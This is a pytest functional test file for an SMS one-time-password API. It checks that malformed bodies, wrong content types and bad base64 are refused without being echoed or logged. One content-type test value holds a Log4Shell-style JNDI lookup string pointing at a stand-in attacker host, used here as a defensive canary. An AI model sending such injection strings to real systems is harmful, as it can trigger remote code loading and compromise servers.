"""Every body of the corpus, sent to its function."""

import base64
import json
import re

import pytest

from generators import events
from sms_otp.entry_points import schemas
from tests.corpora.json_bodies import REQUEST_OTP, UNREADABLE, VERIFY_OTP, Body
from tests.functional.deployment import PATHS, Deployment

CORPUS = {"request_otp": UNREADABLE + REQUEST_OTP, "verify_otp": UNREADABLE + VERIFY_OTP}
CASES = [(function, body) for function, bodies in CORPUS.items() for body in bodies]

KNOWN = {
    *schemas.REQUEST_OTP["properties"],
    *schemas.VERIFY_OTP["properties"],
    "Infinity",
    "invalid",
    "success",
    "tenant",
}
"""The API's own words, which any answer may contain."""


def is_text(body: Body) -> bool:
    """Whether API Gateway could pass the body on as text."""
    try:
        body.raw.decode()
    except UnicodeDecodeError:
        return False
    return True


def words_of(raw: bytes) -> set[str]:
    """The words of a body that must not appear in an answer or the log."""
    text = raw[:20_000].decode(errors="ignore")
    return {word for word in re.findall(r"\w{6,}", text) if word not in KNOWN}


def named(case: object) -> str:
    return case.name if isinstance(case, Body) else str(case)


def check_refused(deployed: Deployment, function: str, body: Body, *, as_base64: bool) -> None:
    event = events.build(PATHS[function], body=body.raw, as_base64=as_base64)
    answer = deployed.call(function, event)
    assert (answer.status, answer.outcome) == (400, body.expected)
    assert answer.body["instance"] == events.REQUEST_ID
    assert deployed.untouched()
    (line,) = deployed.lines()
    assert json.loads(line)["error_code"] == body.expected
    for word in words_of(body.raw):
        assert word not in answer.text
        assert word not in line


REFUSED = [case for case in CASES if case[1].expected != "ok"]
TAKEN = [case for case in CASES if case[1].expected == "ok"]


@pytest.mark.parametrize(("function", "body"), [case for case in REFUSED if is_text(case[1])], ids=named)
def test_a_bad_body_is_refused_and_not_echoed_stored_or_sent(
    deployed: Deployment, function: str, body: Body
) -> None:
    check_refused(deployed, function, body, as_base64=False)


@pytest.mark.parametrize(("function", "body"), REFUSED, ids=named)
def test_a_bad_body_in_base64_is_refused_too(deployed: Deployment, function: str, body: Body) -> None:
    check_refused(deployed, function, body, as_base64=True)


@pytest.mark.parametrize("as_base64", [False, True], ids=["text", "base64"])
@pytest.mark.parametrize(("function", "body"), TAKEN, ids=named)
def test_a_good_body_is_acted_on(deployed: Deployment, function: str, body: Body, as_base64: bool) -> None:
    """The bodies for /verify-otp have an unknown verificationId: their answer is VERIFICATION_NOT_FOUND."""
    event = events.build(PATHS[function], body=body.raw, as_base64=as_base64)
    answer = deployed.call(function, event)
    assert answer.outcome == {"request_otp": "ok", "verify_otp": "VERIFICATION_NOT_FOUND"}[function]
    assert len(deployed.provider.sent) == (function == "request_otp")
    assert not deployed.provider.checked
    assert len(deployed.lines()) == 1
    json.loads(deployed.lines()[0])
    assert "4155550177" not in answer.text + deployed.log.getvalue()


CONTENT_TYPES = [
    ("application/json", "ok"),
    ("Application/JSON", "ok"),
    ("application/json; charset=utf-8", "ok"),
    ("application/json;charset=UTF-8", "ok"),
    ('application/json; charset="utf-8"', "ok"),
    ('application/"json"', "INVALID_REQUEST"),
    ("application/json; charset=utf-16", "INVALID_REQUEST"),
    ("application/json; charset=iso-8859-1", "INVALID_REQUEST"),
    ("application/json; charset=utf-7", "INVALID_REQUEST"),
    ("application/json, text/plain", "INVALID_REQUEST"),
    ("application/jsonp", "INVALID_REQUEST"),
    ("application/x-www-form-urlencoded", "INVALID_REQUEST"),
    ("multipart/form-data; boundary=x", "INVALID_REQUEST"),
    ("text/plain", "INVALID_REQUEST"),
    ("text/json", "INVALID_REQUEST"),
    ("application/xml", "INVALID_REQUEST"),
    ("*/*", "INVALID_REQUEST"),
    ("", "INVALID_REQUEST"),
    ("canaryType/${jndi:ldap://attacker.invalid/a}", "INVALID_REQUEST"),
]


@pytest.mark.parametrize(("content_type", "expected"), CONTENT_TYPES)
def test_a_body_is_read_only_as_json_in_utf_8(deployed: Deployment, content_type: str, expected: str) -> None:
    body = json.dumps({"phoneNumber": "+14155550177"})
    event = events.build("/request-otp", body=body, headers={"content-type": content_type})
    answer = deployed.call("request_otp", event)
    assert answer.outcome == expected
    assert "canaryType" not in answer.text + deployed.log.getvalue()


@pytest.mark.parametrize(
    ("function", "body", "pointer", "detail"),
    [
        ("request_otp", "{}", "", "required: phoneNumber"),
        (
            "request_otp",
            '{"phoneNumber": "+14155550177", "canary": 1}',
            "",
            "unknown property",
        ),
        ("request_otp", '{"phoneNumber": 1}', "/phoneNumber", "type: string"),
        ("request_otp", '{"phoneNumber": ""}', "/phoneNumber", "minLength: 1"),
        ("request_otp", '{"phoneNumber": "+14155550177", "locale": null}', "/locale", "type: string"),
        (
            "verify_otp",
            '{"verificationId": "unknown", "otp": "042917", "sessionId": null}',
            "/sessionId",
            "type: string",
        ),
        (
            "request_otp",
            '{"phoneNumber": "+14155550177", "channel": "canary"}',
            "/channel",
            "enum: sms, voice, whatsapp",
        ),
        (
            "request_otp",
            '{"phoneNumber": "+14155550177", "purpose": "canary canary"}',
            "/purpose",
            "pattern: ^[A-Za-z0-9_.:-]{1,64}$",
        ),
        (
            "request_otp",
            '{"phoneNumber": "+14155550177", "consent": {}}',
            "/consent",
            "required: textVersion, source",
        ),
        ("verify_otp", '{"otp": "042917"}', "/verificationId", "required"),
    ],
)
def test_the_error_in_a_body_is_in_the_answer_and_in_the_log(
    deployed: Deployment, function: str, body: str, pointer: str, detail: str
) -> None:
    answer = deployed.call(function, events.build(PATHS[function], body=body))
    assert answer.body["errors"] == [{"pointer": pointer, "detail": detail}]
    (line,) = deployed.lines()
    assert json.loads(line)["reason"] == f"{pointer} {detail}".lstrip()


def test_the_log_says_why_a_body_cannot_be_read(deployed: Deployment) -> None:
    deployed.call("request_otp", events.build("/request-otp", body='{"phoneNumber": "+14155550177"'))
    (line,) = deployed.lines()
    assert json.loads(line)["reason"] == "not JSON"


@pytest.mark.parametrize("function", ["request_otp", "verify_otp"])
def test_a_request_without_a_body_is_refused(deployed: Deployment, function: str) -> None:
    assert deployed.call(function, events.build(PATHS[function])).outcome == "INVALID_REQUEST"


@pytest.mark.parametrize(
    "text",
    ["not base64!", "e30", "e30=\n", "e3\u00e90=", "====", "{}", pytest.param("A" * 10_000_000, id="10 MB")],
)
@pytest.mark.parametrize("function", ["request_otp", "verify_otp"])
def test_a_body_that_claims_to_be_base64_and_is_not_is_refused(
    deployed: Deployment, function: str, text: str
) -> None:
    event = events.build(PATHS[function]) | {"body": text, "isBase64Encoded": True}
    assert deployed.call(function, event).outcome == "INVALID_REQUEST"
    assert deployed.untouched()


def test_a_character_outside_the_base64_alphabet_is_refused(deployed: Deployment) -> None:
    whole = base64.b64encode(b'{"phoneNumber": "+14155550123"}').decode()
    event = events.build(PATHS["request_otp"]) | {"isBase64Encoded": True}
    assert deployed.call("request_otp", event | {"body": f"!{whole}"}).outcome == "INVALID_REQUEST"
    assert deployed.untouched()
    assert deployed.call("request_otp", event | {"body": whole}).outcome == "ok"


@pytest.mark.parametrize("function", ["request_otp", "verify_otp"])
def test_a_lone_surrogate_in_a_body_is_refused_and_not_echoed(deployed: Deployment, function: str) -> None:
    event = events.build(PATHS[function]) | {"body": '{"sessionId":"\ud83d"}'}
    answer = deployed.call(function, event)
    assert answer.outcome == "INVALID_REQUEST"
    assert "d83d" not in answer.text + deployed.log.getvalue()
